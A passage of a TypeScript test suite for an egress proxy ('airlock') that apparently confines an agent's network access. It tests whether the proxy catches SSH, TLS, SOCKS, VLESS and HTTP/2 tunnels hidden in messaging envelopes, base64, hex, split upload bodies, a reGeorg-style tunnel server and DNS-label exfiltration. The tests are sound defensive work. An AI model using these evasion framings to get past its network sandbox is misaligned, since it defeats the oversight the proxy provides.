    [/^a TLS handshake/, hello, true], [/^a SOCKS request/, Buffer.from([5, 1, 0]), true],
    [/^a SOCKS request/, Buffer.concat([Buffer.from([5, 1, 0, 5, 1, 0, 3, host.length]), host, Buffer.from([0, 22])]), true],
    [/^an HTTP(?:\/2 connection| request)/, Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), true], [/^an HTTP request/, Buffer.from('DELETE /admin HTTP/1.1\r\nHost: admin.example\r\n\r\n'), false],
    [/^a PROXY protocol header/, Buffer.from('PROXY TCP4 127.0.0.1 127.0.0.1 40000 22\r\n'), true],
  ];
  // Every character escaped (`\u0053…`), as some encoders write non-ASCII-safe JSON, or as JSON.stringify writes it.
  const allEscaped = (b: Buffer): string => `"${[...b.toString('latin1')].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')}"`;
  const framings: Record<string, (lit: string) => string> = {
    sockjs: (l) => `[${l}]`, socketio: (l) => `42["data",${l}]`, socketioNs: (l) => `42/tcp,17["data",${l}]`, socketioBinary: (l) => `451-["data",${l},{"_placeholder":true,"num":0}]`,
    data: (l) => JSON.stringify({ type: 'data', id: 'c1' }).replace('}', `,"data":${l}}`), bare: (l) => l, signalr: (l) => `{"type":1,"target":"Send","arguments":[${l}]}\x1e`,
    padded: (l) => `{"pad":"${'p'.repeat(5000)}","note":"a\\"b","data":${l}}`,
  };
  fc.assert(fc.property(fc.constantFrom(...openings), fc.boolean(), fc.constantFrom(...Object.keys(framings)), fc.array(fc.constantFrom('40', '{"op":"open"}', '2probe'), { maxLength: 2 }),
    ([want, bytes, inBody], escapeAll, framing, before) => {
      const msg = framings[framing]!(escapeAll ? allEscaped(bytes) : JSON.stringify(bytes.toString('latin1')));
      const scan = new InnerSessionScan();
      const found = [...before, msg].map((m) => scan.read(Buffer.from(m, 'latin1'))).find(Boolean);
      if (!found || !want.test(found)) throw new Error(`${framing} ${escapeAll} after ${JSON.stringify(before)}: ${found}`);
      // The same as an upload's JSON body (an SSH line or a request line in a body's string is a ticket's or a log's: not read there).
      if (inBody && /^[[{]/.test(msg)) {
        const r = bodyTunnel(['Content-Type', 'application/json'], 'http://allowed.example/up', { captured: Buffer.from(msg, 'latin1'), truncated: false });
        if (!r || !('refusal' in r)) throw new Error(`body: ${framing} ${escapeAll}`);
      }
    }), { numRuns: numRuns * 2, ...seed });
  // Cut across messages: each piece the payload string of its own envelope (the relay's stream is their join).
  const envelopes: Record<string, (piece: string) => string> = {
    socketio: (x) => `42${JSON.stringify(['data', x])}`, sockjs: (x) => JSON.stringify([x]), dataLast: (x) => JSON.stringify({ type: 'data', id: 'c1', data: x }),
    dataFirst: (x) => JSON.stringify({ data: x, type: 'd' }),
  };
  fc.assert(fc.property(fc.constantFrom(...openings), fc.array(fc.nat(), { minLength: 1, maxLength: 3 }), fc.constantFrom(...Object.keys(envelopes)), fc.boolean(),
    ([want, bytes], cuts, envelope, opened) => {
      const points = [...new Set(cuts.map((c) => 1 + (c % (bytes.length - 1))))].sort((a, b) => a - b);
      const pieces = [0, ...points].map((p, i, all) => bytes.subarray(p, all[i + 1] ?? bytes.length).toString('latin1'));
      const scan = new InnerSessionScan();
      const found = [...(opened ? ['40'] : []), ...pieces.map(envelopes[envelope]!)].map((m) => scan.read(Buffer.from(m))).find(Boolean);
      if (!found) throw new Error(`${envelope} ${JSON.stringify(pieces)}: not closed`);
      void want;
    }), { numRuns: numRuns * 2, ...seed });
  // Controls: sessions of JSON envelopes (GraphQL over a WebSocket, MCP, a socket.io chat, Hrana) go on whole.
  for (const session of [
    [JSON.stringify({ type: 'connection_init' }), JSON.stringify({ id: '1', type: 'subscribe', payload: { query: 'subscription {\n  orders { id }\n}' } }), JSON.stringify({ id: '1', type: 'complete' })],
    [JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '2025-03-26', clientInfo: { name: 'c', version: '1' } } }), JSON.stringify({ jsonrpc: '2.0', method: 'notifications/initialized' }),
      JSON.stringify({ jsonrpc: '2.0', id: 2, method: 'tools/call', params: { name: 'search', arguments: { q: 'SSH-2.0 banners\r\nand more' } } })],
    ['40', '42["chat","hi"]', '42["chat","SSH is a protocol"]', '42["chat","line\nanother"]', '42["typing",true]'],
    [JSON.stringify({ type: 'hello', jwt: null }), JSON.stringify({ type: 'request', request_id: 1, request: { type: 'execute', stream_id: 0, stmt: { sql: 'SELECT 1\nFROM t' } } })],
  ]) {
    const scan = new InnerSessionScan();
    t.equal(session.map((m) => scan.read(Buffer.from(m))).find(Boolean), undefined, `a session: ${session[0]!.slice(0, 40)}`);
  }
  // engine.io's message packet (`4…`, alone or in a polling payload) hands the relay what follows it.
  for (const msg of ['4SSH-2.0-OpenSSH_9.2p1\r\n', '4hello\x1e4SSH-2.0-OpenSSH_9.2p1\r\n', `40\x1e4${Buffer.from([5, 1, 0]).toString('latin1')}`]) {
    t.ok(new InnerSessionScan().read(Buffer.from(msg, 'latin1')), JSON.stringify(msg));
  }
  // socket.io's binary event: the head (`451-[…placeholder…]`, after `40`, in a namespace) is the
  // envelope's, its binary attachment the relay's stream, whose start is read as one.
  const socksRequest = Buffer.concat([Buffer.from([5, 1, 0, 5, 1, 0, 3, host.length]), host, Buffer.from([0, 22])]);
  for (const [open, head] of [['40', '451-["data",{"_placeholder":true,"num":0}]'], ['40/tcp,', '451-/tcp,["data",{"_placeholder":true,"num":0}]'], ['40', '451-0["data",{"_placeholder":true,"num":0}]']]) {
    for (const attachment of [Buffer.from([5, 1, 0]), socksRequest]) {
      const scan = new InnerSessionScan();
      const found = [Buffer.from(open!), Buffer.from(head!), attachment].map((m) => scan.read(m)).find(Boolean);
      t.match(found ?? '', /^a SOCKS request/, `a SOCKS ${attachment.length > 3 ? 'request' : 'greeting'} as the attachment of ${head}`);
    }
  }
  const png = new InnerSessionScan();
  t.equal([Buffer.from('40'), Buffer.from('451-["img",{"_placeholder":true,"num":0}]'), Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex')].map((m) => png.read(m)).find(Boolean), undefined, 'an image as a binary event goes on');
  // Controls: chat and data whose strings hold line ends (a later line quoting a request or a
  // banner), SQL and GraphQL with newlines, MCP's tool call with code, prose quoting the escapes,
  // socket.io's own traffic, an engine.io message of chat, `GET it?` in a string.
  const controls = [JSON.stringify({ text: 'hello\nworld\nSSH-2.0-OpenSSH_9.6 was the banner', n: 'GET it?\n' }), `42${JSON.stringify(['msg', 'line one\r\nline two\r\nGET / HTTP/1.1'])}`,
    JSON.stringify({ type: 'execute', stmt: { sql: 'SELECT *\nFROM users\nWHERE id = ?' } }), JSON.stringify({ id: '1', type: 'subscribe', payload: { query: 'subscription {\n  orders { id }\n}' } }),
    JSON.stringify({ jsonrpc: '2.0', id: 3, method: 'tools/call', params: { name: 'run', arguments: { code: 'import os\r\nprint(os.getcwd())\n\tpass' } } }),
    'The preface is "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n".', '42 is the answer\nGET it?', '4hello world', '2probe', '40', `42["chat","SSH-2.0-OpenSSH_9.6"]`,
    JSON.stringify({ bytes: '\u0000\u0001\u0002 a small binary field', n: 5 }), JSON.stringify(['\u0005 five']), JSON.stringify({ log: 'Example:\r\nSSH-2.0-OpenSSH_9.6\r\n' })];
  for (const m of controls) t.equal(new InnerSessionScan().read(Buffer.from(m, 'latin1')), undefined, m.slice(0, 80));
  t.equal(bodyTunnel(['Content-Type', 'application/json'], 'http://allowed.example/ticket', { captured: Buffer.from(JSON.stringify({ body: 'SSH-2.0-OpenSSH_9.6\r\nProtocol mismatch.' })), truncated: false }), undefined, 'a ticket quoting a banner');
  t.end();
});

t.test('twenty-fourth pass: a base64 hello inside a messaging envelope (engine.io, Kubernetes channels, STOMP, XMPP IBB, a data URL, JSON escapes, past 4 KiB) closes the tunnel', async (t) => {
  // The twenty-third pass read base64 only at a message's start or right after a quote, in the
  // first 4 KiB: an envelope with a prefix of its own (engine.io's `b`/`b4`, Kubernetes'
  // `base64.channel.k8s.io` channel digit), a body after a frame's head (STOMP, XMPP's in-band
  // bytestream `<data>`), a data URL, a JSON string whose letters are escaped, or one behind a
  // padding field hid it from the scan; the service behind the bridge got the decoded stream.
  const hellos = [await clientHello({ servername: 'x.example' }), await clientHello({ minVersion: 'TLSv1.3' })];
  const ssh = Buffer.from('SSH-2.0-OpenSSH_9.2p1\r\n');
  const escape = (s: string, at: number): string => `${s.slice(0, at)}\\u${s.charCodeAt(at).toString(16).padStart(4, '0')}${s.slice(at + 1)}`;
  const framings: Record<string, (b64: string) => string> = {
    engineio4: (b) => `b${b}`,
    engineio3: (b) => `b4${b}`,
    k8sChannel: (b) => `0${b}`,
    socketio: (b) => `42/tcp,["data","${b}"]`,
    signalrEscaped: (b) => `{"type":1,"target":"Send","arguments":["${escape(b, 0)}"]}\x1e`,
    escapedSecond: (b) => JSON.stringify({ data: 'x' }).replace('"x"', `"${escape(b, 2)}"`),
    stomp: (b) => `SEND\ndestination:/queue/tcp\ncontent-type:text/plain\n\n${b}\0`,
    xmppIbb: (b) => `<iq type='set' id='i1'><data xmlns='http://jabber.org/protocol/ibb' seq='0' sid='s1'>${b}</data></iq>`,
    dataUrl: (b) => JSON.stringify({ chunk: `data:application/octet-stream;base64,${b}` }),
    padded: (b) => JSON.stringify({ pad: 'p'.repeat(5000), data: b }),
  };
  fc.assert(fc.property(
    fc.constantFrom(...hellos.map((h) => ['a TLS handshake (in base64)', h] as const), ['an SSH session (in base64)', ssh] as const), fc.constantFrom<BufferEncoding>('base64', 'base64url'),
    fc.constantFrom(...Object.keys(framings)), fc.array(fc.constantFrom('hello', '{"op":"open"}', '40', '2probe'), { maxLength: 2 }),
    ([name, bytes], enc, framing, before) => {
      const msg = framings[framing]!(bytes.toString(enc));
      const scan = new InnerSessionScan();
      const found = [...before, msg].map((m) => scan.read(Buffer.from(m, 'latin1'))).find(Boolean);
      if (found !== name) throw new Error(`${framing} ${enc} after ${JSON.stringify(before)}: ${found}`);
    },
  ), { numRuns: numRuns * 2, ...seed });
  // engine.io's polling payloads (v4: packets split by a record separator; v3: `<length>:` before
  // each) with a `b` packet after a text one, and the hello or identification in hex (any case, bare or in JSON).
  for (const [name, bytes] of [['a TLS handshake', hellos[0]!], ['an SSH session', ssh]] as const) {
    const b64 = bytes.toString('base64');
    const hex = bytes.toString('hex');
    for (const [msg, want] of [[`4hello\x1eb${b64}`, `${name} (in base64)`], [`6:4hello${b64.length + 2}:b4${b64}`, `${name} (in base64)`],
      [hex, `${name} (in hex)`], [hex.toUpperCase(), `${name} (in hex)`], [JSON.stringify({ type: 'data', hex }), `${name} (in hex)`], [`0x${hex}`, `${name} (in hex)`]]) {
      t.equal(new InnerSessionScan().read(Buffer.from(msg!, 'latin1')), want, `${want}: ${msg!.slice(0, 40)}`);
    }
  }
  // HTTP/2's connection preface (h2c with prior knowledge), raw in an upload, in base64 or hex in an
  // envelope, as a WebSocket message or an upload's body (twenty-fourth pass).
  const preface = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), Buffer.from('000000040000000000', 'hex')]);
  for (const [msg, want] of [[preface, 'an HTTP/2 connection'], [Buffer.from(JSON.stringify({ data: preface.toString('base64') })), 'an HTTP/2 connection (in base64)'],
    [Buffer.from(preface.toString('base64url')), 'an HTTP/2 connection (in base64)'], [Buffer.from(`{"hex":"${preface.toString('hex').toUpperCase()}"}`), 'an HTTP/2 connection (in hex)']] as const) {
    t.equal(new InnerSessionScan().read(msg), want, `${want}: a message`);
    const body = bodyTunnel(['Content-Type', 'application/octet-stream'], 'http://allowed.example/up', { captured: msg, truncated: false });
    t.match(body && 'refusal' in body ? body.refusal.detail : '', want, `${want}: a body`);
  }
  // An HTTP/1 request in base64 in a bridge's envelope (an HTTP service behind it), behind a decoy
  // string, at any of the three places a long target leaves `HTTP/` in; not read in an upload's body.
  fc.assert(fc.property(fc.constantFrom('GET', 'DELETE', 'POST', 'PROPFIND'), fc.string({ minLength: 0, maxLength: 40 }).map((x) => `/admin/${encodeURIComponent(x)}`),
    fc.constantFrom<BufferEncoding>('base64', 'base64url'), fc.constantFrom('bare', 'data', 'decoy', 'engineio'), (method, target, enc, framing) => {
      const b64 = Buffer.from(`${method} ${target} HTTP/1.1\r\nHost: admin.example\r\n\r\n`).toString(enc);
      const msg = { bare: b64, data: JSON.stringify({ type: 'data', data: b64 }), decoy: JSON.stringify({ id: 'QUJDREVGR0g=', data: b64 }), engineio: `b${b64}` }[framing];
      const found = new InnerSessionScan().read(Buffer.from(msg));
      if (found !== 'an HTTP request (in base64)') throw new Error(`${framing} ${enc} ${method} ${target}: ${found}`);
    }), { numRuns, ...seed });
  const request = Buffer.from('GET /admin HTTP/1.1\r\nHost: admin.example\r\n\r\n').toString('base64');
  t.equal(bodyTunnel(['Content-Type', 'application/json'], 'http://allowed.example/up', { captured: Buffer.from(JSON.stringify({ raw: request })), truncated: false }), undefined, 'a request in base64 in a body is the smuggling family\'s');
  for (const m of [Buffer.from('GET milk and eggs\nHTTP/1.1 is old').toString('base64'), Buffer.from('Make HTTP/1.1 requests').toString('base64'), JSON.stringify({ img: Buffer.from('GET x').toString('base64') })]) {
    t.equal(new InnerSessionScan().read(Buffer.from(m)), undefined, `not a request line: ${m}`);
  }
  // Controls: a text about HTTP/2 quoting the preface with its escapes written out, its first line alone in an upload.
  for (const body of ['The preface is "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n".', 'PRI * HTTP/2.0\nis how it starts']) {
    t.equal(bodyTunnel(['Content-Type', 'text/plain'], 'http://allowed.example/up', { captured: Buffer.from(body), truncated: false }), undefined, body);
  }
  // Controls: engine.io's and socket.io's own traffic, escaped JSON, base64 of other bytes behind
  // the same prefixes, the letters inside a word or a longer base64 run, a hello's bytes at no
  // base64 alignment.
  const other = Buffer.from('hello world, this is plain data').toString('base64');
  for (const m of ['2probe', '3probe', '40', '42["chat","hi"]', `b${other}`, `0${other}`, `b4${other}`, '{"html":"\\u003cp\\u003eFgM\\u003c/p\\u003e"}',
    `{"s":"\\u0041gMBxx"}`, `SEND\n\nthe code is xFgMBq\0`, `<data>${other}</data>`, `data:,${other}`, `AAAAFgMBAgAB`, `{"d":"${'A'.repeat(6000)}FgMBAgAB"}`, 'FgMA is not a record of TLS',
    // Hex that is no such start: a hash, a record of another type, a longer run, `SSH-3.`.
    JSON.stringify({ sha: crypto.createHash('sha256').update('x').digest('hex') }), '17030300200102', 'ab16030100f80100', '5353482d332e30', 'abcb4FgMBAgABAgABAg']) {
    t.equal(new InnerSessionScan().read(Buffer.from(m, 'latin1')), undefined, m.slice(0, 80));
  }
});

t.test('twenty-third pass (follow-up): a tunnel carried in plain HTTP request bodies is refused, and a tunnel command\'s target decided', async (t) => {
  // XHTTP/splithttp (VLESS then the agent's TLS in POST uploads), reGeorg-style SOCKS over POSTs
  // (`X-CMD: CONNECT` + `X-TARGET`/`X-PORT`, then `FORWARD` bodies), meek (TLS in opaque bodies).
  const hellos = [await clientHello({ servername: 'admin.example' }), await clientHello({ maxVersion: 'TLSv1.2' })];
  const host = Buffer.from('admin.example');
  const port = Buffer.from([0, 22]);
  const socks = Buffer.concat([Buffer.from([5, 1, 0, 5, 1, 0, 3, host.length]), host, port]);
  const vless = Buffer.concat([Buffer.from([0]), crypto.randomBytes(16), Buffer.from([0, 1]), port, Buffer.from([2, host.length]), host]);
  const trojan = Buffer.concat([Buffer.from('a'.repeat(56) + '\r\n'), Buffer.from([1, 3, host.length]), host, port, Buffer.from('\r\n')]);
  const ssh = Buffer.from('SSH-2.0-OpenSSH_9.2p1\r\n');
  const scan = (body: Buffer, ct: string, url = 'http://allowed.example/up', headers: string[] = []) => bodyTunnel(['Content-Type', ct, ...headers], url, { captured: body, truncated: false });
  fc.assert(fc.property(
    fc.constantFrom(...hellos, ...hellos.map((h) => fragmented(h, 7)), socks, vless, trojan, ssh, Buffer.concat([vless, hellos[0]!])),
    fc.constantFrom('raw', 'base64', 'base64url', 'form', 'form-bytes', 'json', 'grpc', 'gzip', 'multipart', 'query'),
    fc.constantFrom('application/octet-stream', 'application/grpc', 'text/plain', 'application/x-www-form-urlencoded', ''),
    (start, framing, ct) => {
      const frame = Buffer.alloc(5);
      frame.writeUInt32BE(start.length, 1);
      const multipart = Buffer.concat([Buffer.from('--b0\r\nContent-Disposition: form-data; name="f"; filename="x.bin"\r\n\r\n'), start, Buffer.from('\r\n--b0--\r\n')]);
      const body = { raw: start, base64: Buffer.from(start.toString('base64')), base64url: Buffer.from(start.toString('base64url')),
        form: Buffer.from(`id=7&data=${encodeURIComponent(start.toString('base64'))}`), 'form-bytes': Buffer.from(`id=7&data=${[...start].map((c) => `%${c.toString(16).padStart(2, '0')}`).join('')}`),
        json: Buffer.from(JSON.stringify({ data: start.toString('base64') })), grpc: Buffer.concat([frame, start]), gzip: zlib.gzipSync(start), multipart, query: Buffer.alloc(0) }[framing];
      const type = framing === 'multipart' ? 'multipart/form-data; boundary=b0' : ct;
      const extra = framing === 'gzip' ? ['Content-Encoding', 'gzip'] : [];
      // (A value's own text is not read for a request line or a banner: a search for `SSH-2.0-…` is none.)
      if (start === ssh && (framing === 'query' || framing === 'form-bytes')) return;
      const r = scan(body, type, framing === 'query' ? `http://allowed.example/up/0?x_padding=XXXX&d=${start.toString('base64url')}` : 'http://allowed.example/up', extra);
      if (!r || !('refusal' in r)) throw new Error(`not refused: ${framing} ${ct} ${start.subarray(0, 8).toString('hex')}`);
    },
  ), { numRuns: numRuns * 4, ...seed });
  // A tunnel command naming its destination: a second target, decided as the connection it is (header or query, any case).
  fc.assert(fc.property(fc.constantFrom('CONNECT', 'connect', 'Connect'), fc.constantFrom('headers', 'query'), fc.constantFrom('admin.example', '10.0.0.5', 'localhost'), (verb, where, target) => {
    const r = where === 'headers' ? scan(Buffer.alloc(0), '', 'http://allowed.example/tunnel.jsp', ['X-CMD', verb, 'X-TARGET', target, 'X-PORT', '22'])
      : scan(Buffer.alloc(0), '', `http://allowed.example/tunnel.php?cmd=${verb}&target=${target}&port=22`);
    if (!Array.isArray(r) || !r.some((x) => new URL(x.request.url).host === `${target}:22`)) throw new Error(`${where} ${verb} ${target}: ${JSON.stringify(r)}`);
  }), { numRuns, ...seed });
  // Controls: random binary uploads, gRPC(-web) protobuf messages, an image, a zip, text quoting a
  // request line or a banner past its first line, `GET milk`, a form, READ without a target.
  // (Bodies that are a whole SOCKS5 greeting, `05 01 00` and the like, are one: fast-check's bias
  // toward short arrays of small bytes makes them now and then; they are no control.)
  const socks5Greeting = (u: Uint8Array): boolean => u.length >= 3 && u[0] === 5 && u[1]! > 0 && u.length === 2 + u[1]!;
  fc.assert(fc.property(fc.uint8Array({ maxLength: 2000 }).filter((u) => !socks5Greeting(u)), fc.constantFrom('application/octet-stream', 'image/png', ''), (u, ct) => {
    if (scan(Buffer.from(u), ct)) throw new Error(Buffer.from(u).subarray(0, 24).toString('hex'));
  }), { numRuns: numRuns * 8, ...seed });
  const protobuf = fc.array(fc.tuple(fc.integer({ min: 1, max: 30 }), fc.uint8Array({ maxLength: 40 })), { minLength: 1, maxLength: 8 })
    .map((fields) => Buffer.concat(fields.map(([n, v]) => Buffer.concat([Buffer.from([(n << 3) | 2, v.length]), v]))));
  fc.assert(fc.property(fc.array(protobuf, { minLength: 1, maxLength: 3 }), fc.boolean(), (msgs, text) => {
    const body = Buffer.concat(msgs.map((m) => { const h = Buffer.alloc(5); h.writeUInt32BE(m.length, 1); return Buffer.concat([h, m]); }));
    const r = text ? scan(Buffer.from(body.toString('base64')), 'application/grpc-web-text') : scan(body, 'application/grpc-web+proto');
    if (r) throw new Error(body.subarray(0, 24).toString('hex'));
  }), { numRuns: numRuns * 4, ...seed });
  const zip = Buffer.from('504b0304140000000800', 'hex');
  for (const [b, ct] of [[Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), 'image/png'], [Buffer.concat([zip, zlib.deflateRawSync(Buffer.from('hello'))]), 'application/zip'],
    [Buffer.from('notes\nGET /deny HTTP/1.1\nSSH-2.0-OpenSSH_9.2\n'), 'text/plain'], [Buffer.from('GET milk'), 'text/plain'], [Buffer.from('q=hello+world&page=2'), 'application/x-www-form-urlencoded'],
    [Buffer.from(JSON.stringify({ img: 'iVBORw0KGgoAAAANSUhEUgAA' })), 'application/json'], [Buffer.from('POST /v1/items HTTP/1.1\r\nHost: x\r\n\r\n'), 'application/http'],
    // (A body that is an HTTP request goes with `Connection: close`, the smuggling family's: not a tunnel's opening here.)
    [Buffer.from('GET /deny HTTP/1.1\r\nHost: x\r\n\r\n'), 'text/plain']] as const) {
    t.equal(scan(b, ct), undefined, `${ct} ${b.subarray(0, 12).toString('hex')}`);
  }
  t.equal(scan(Buffer.alloc(0), '', 'http://allowed.example/tunnel.jsp', ['X-CMD', 'READ']), undefined, 'a READ names no destination');
  for (const q of ['SSH-2.0-OpenSSH_9.6p1', 'GET%20/%20HTTP/1.1', 'GET+milk', 'aGVsbG8gd29ybGQgaGVsbG8']) t.equal(scan(Buffer.alloc(0), '', `http://allowed.example/search?q=${q}`), undefined, `a search for ${q}`);
  t.equal(scan(Buffer.from('--b0\r\nContent-Disposition: form-data; name="note"\r\n\r\nSSH-2.0-OpenSSH_9.6 on the jump host\r\n--b0--\r\n'), 'multipart/form-data; boundary=b0'), undefined, 'a form field quoting a banner');
  t.equal(scan(Buffer.alloc(0), '', 'http://allowed.example/search?host=admin.example&port=22'), undefined, 'a host parameter without a tunnel command is none');

  // Live: a reGeorg-style tunnel server on loopback (CONNECT dials X-TARGET:X-PORT; FORWARD writes the body there).
  const got: Buffer[] = [];
  const dialled: string[] = [];
  const service = net.createServer((s) => s.on('data', (d: Buffer) => got.push(d)));
  await new Promise<void>((r) => service.listen(0, '127.0.0.1', r));
  t.teardown(() => service.close());
  const servicePort = (service.address() as net.AddressInfo).port;
  let conn: net.Socket | undefined;
  let dialPort = servicePort;
  const sessions = new Map<string, { conn: net.Socket; back: Buffer[] }>();
  t.teardown(() => { for (const s of sessions.values()) s.conn.destroy(); });
  const urls: string[] = [];
  const tunnelServer = http.createServer((req, res) => {
    urls.push(req.url ?? '');
    const chunks: Buffer[] = [];
    req.on('data', (d: Buffer) => chunks.push(d));
    req.on('end', () => {
      const cmd = String(req.headers['x-cmd'] ?? '');
      const session = String(req.headers['x-session'] ?? '');
      if (cmd === 'CONNECT') {
        dialled.push(`${String(req.headers['x-target'])}:${String(req.headers['x-port'])}`);
        conn = net.connect(dialPort, '127.0.0.1');
        conn.on('error', () => undefined);
        const c = conn;
        sessions.set(session, { conn: c, back: [] });
        c.on('data', (d: Buffer) => sessions.get(session)?.back.push(d));
      } else if (cmd === 'FORWARD') (sessions.get(session)?.conn ?? conn)?.write(Buffer.concat(chunks));
      else if (cmd === 'READ') {
        // reGeorg's READ: what the service sent since, raw or base64.
        const s = sessions.get(session);
        const back = Buffer.concat(s?.back.splice(0) ?? []);
        res.setHeader('Content-Type', 'application/octet-stream');
        res.end(req.headers['x-enc'] === 'base64' ? back.toString('base64') : back);
        return;
      } else if (req.url?.startsWith('/down/')) {
        // The stream-down side of a long poll: SSE events of base64, a chunked raw stream, JSON, gzip.
        const how = req.url.slice('/down/'.length);
        const back = Buffer.concat(sessions.get(session)?.back.splice(0) ?? []);
        if (how === 'sse-lines') {
          res.writeHead(200, { 'Content-Type': 'text/event-stream' });
          for (const line of back.toString('latin1').split('\r\n').filter(Boolean)) res.write(`data: ${line}\n\n`);
          res.end();
        } else if (how === 'sse') {
          res.writeHead(200, { 'Content-Type': 'text/event-stream' });
          res.write(': ping\n\n');
          for (let i = 0; i < back.length; i += 7) res.write(`event: data\ndata: ${back.subarray(i, i + 7).toString('base64')}\n\n`);
          res.end();
        } else if (how === 'stream') {
          res.writeHead(200, { 'Content-Type': 'application/octet-stream' });
          for (let i = 0; i < back.length; i += 5) res.write(back.subarray(i, i + 5));
          res.end();
        } else if (how === 'json') {
          res.setHeader('Content-Type', 'application/json');
          res.end(JSON.stringify({ sid: session, data: back.toString('base64') }));
        } else {
          res.writeHead(200, { 'Content-Type': 'application/octet-stream', 'Content-Encoding': 'gzip' });
          res.end(zlib.gzipSync(back));
        }
        return;
      } else got.push(Buffer.concat(chunks));
      res.setHeader('X-STATUS', 'OK');
      res.end();
    });
  });
  await new Promise<void>((r) => tunnelServer.listen(0, '127.0.0.1', r));
  t.teardown(() => { conn?.destroy(); tunnelServer.close(); });
  const tp = (tunnelServer.address() as net.AddressInfo).port;
  process.env.AIRLOCK_MASTER_KEY ??= '3c'.repeat(32);
  const a = await startTestAirlock(t, { policy: 'streams', resolve: ['allowed.example=127.0.0.1'], allowPrivate: [`127.0.0.1:${tp}`] });
  const dir = tempDir(t, 'hunt23b-bodytun-');
  const post = async (name: string, body: Buffer, headers: string[]) => {
    fs.writeFileSync(path.join(dir, name), body);
    return (await curl(['-o', '/dev/null', '-w', '%{http_code}', '-x', a.proxyUrl, ...headers.flatMap((h) => ['-H', h]), '--data-binary', `@${path.join(dir, name)}`, `http://allowed.example:${tp}/tunnel.jsp`])).stdout;
  };
  t.equal(await post('connect', Buffer.alloc(0), ['X-CMD: CONNECT', 'X-TARGET: admin.example', 'X-PORT: 22']), '403', 'the CONNECT to a denied host is denied');
  t.same(dialled, [], 'the tunnel server never dialled');
  t.equal(await post('connect-ok', Buffer.alloc(0), ['X-CMD: CONNECT', 'X-TARGET: allowed.example', 'X-PORT: 22']), '200', 'a CONNECT to an allowed host goes on (the policy decides)');
  t.equal(await post('hello', hellos[0]!, ['X-CMD: FORWARD', 'Content-Type: application/octet-stream']), '403', 'a TLS hello as a FORWARD body is refused');
  t.equal(await post('socks', socks, ['Content-Type: application/octet-stream']), '403', 'a SOCKS request as a body is refused');
  t.equal(await post('vless', Buffer.concat([vless, hellos[1]!]), ['Content-Type: application/grpc']), '403', 'an XHTTP upload (VLESS, then TLS) is refused');
  t.equal(await post('b64', Buffer.from(hellos[0]!.toString('base64')), ['X-CMD: FORWARD']), '403', 'a base64 hello as a body is refused');
  // Twenty-fourth pass: HTTP/2 with prior knowledge (h2c) to an HTTP/2 service behind the tunnel server.
  const h2 = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), Buffer.from('000000040000000000', 'hex')]);
  t.equal(await post('h2', h2, ['X-CMD: FORWARD', 'Content-Type: application/octet-stream']), '403', 'an HTTP/2 connection preface as a FORWARD body is refused');
  await new Promise((res) => setTimeout(res, 100));
  t.same(got, [], 'the service got none of the tunnelled bytes');
  t.equal(await post('png', Buffer.from('89504e470d0a1a0a0000000d4948445200000001', 'hex'), ['Content-Type: image/png']), '200', 'an image upload goes on');

  // Twenty-fifth pass: an opening cut across FORWARD bodies, which the tunnel server joins into
  // one stream: each piece alone holds none; the piece that completes one is refused.
  got.length = 0;
  const h2c = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
  for (const [what, opening, at] of [['an SSH line', ssh, 5], ['a TLS hello', hellos[0]!, 5], ['an HTTP/2 preface', h2c, 12]] as const) {
    t.equal(await post('p1', opening.subarray(0, at), ['X-CMD: FORWARD']), '200', `${what}'s first ${at} bytes go on (nothing yet)`);
    t.equal(await post('p2', opening.subarray(at), ['X-CMD: FORWARD']), '403', `${what} completed by the next FORWARD body is refused`);
  }
  await new Promise((res) => setTimeout(res, 100));
  const joined = Buffer.concat(got);
  t.ok(!joined.includes(ssh.subarray(0, 8)) && !joined.includes(hellos[0]!.subarray(0, 6)) && !joined.includes(h2c), 'the service never got a whole opening');
  t.equal(await post('j1', Buffer.from('{"seq":1}'), ['X-CMD: FORWARD', 'Content-Type: application/json']), '200', 'small bodies in a row go on (control)');
  t.equal(await post('j2', Buffer.from('SSH is a protocol'), ['X-CMD: FORWARD', 'Content-Type: text/plain']), '200', 'text naming SSH after them goes on (control)');

  // Twenty-sixth pass, live: the same server as a DoH resolver (the allowed host); a lookup of a
  // name under a denied domain (data in its labels, iodine-style) never reaches it.
  const ask = async (name: string, how: 'get' | 'post') => {
    const q = dnsQuery([name]);
    fs.writeFileSync(path.join(dir, 'q'), q);
    const args = how === 'get' ? [`http://allowed.example:${tp}/dns-query?dns=${q.toString('base64url')}`]
      : ['-H', 'Content-Type: application/dns-message', '--data-binary', `@${path.join(dir, 'q')}`, `http://allowed.example:${tp}/dns-query`];
    return (await curl(['-s', '-o', '/dev/null', '-w', '%{http_code}', '-x', a.proxyUrl, ...args])).stdout;
  };
  urls.length = 0;
  t.equal(await ask('nbswy3dpeb3w64tmmq.t.admin.example', 'get'), '403', 'GET ?dns= for a name under a denied domain is denied');
  t.equal(await ask('nbswy3dpeb3w64tmmq.t.admin.example', 'post'), '403', 'POST application/dns-message for it is denied');
  t.same(urls, [], 'the resolver was never asked');
  t.equal(await ask('allowed.example', 'get'), '200', 'a lookup of an allowed host goes on');
  t.equal(await ask('allowed.example', 'post'), '200', 'so does its POST');

  // Twenty-seventh pass, live: the answer side of a body tunnel. A tunnel server (reGeorg's `READ`,
  // an SSE long poll, XHTTP's stream-down) hands the service's bytes back in answers while POSTs
  // carry the client's side: a real SMTP server (Python's smtpd) behind it speaks first, and the
  // agent's answers to its banner are plain lines no opening reading knew. Each way in its own agent.
  const smtpd = spawn('python3', ['-W', 'ignore', '-u', '-c', [
    'import smtpd, asyncore, sys',
    'class S(smtpd.SMTPServer):',
    '  def process_message(self, peer, mailfrom, rcpttos, data, **kw): print("MAIL", mailfrom, rcpttos, flush=True)',
    "s = S(('127.0.0.1', 0), None, decode_data=True)",
    'print(s.socket.getsockname()[1], flush=True)',
    'asyncore.loop()'].join('\n')], { stdio: ['ignore', 'pipe', 'inherit'] });
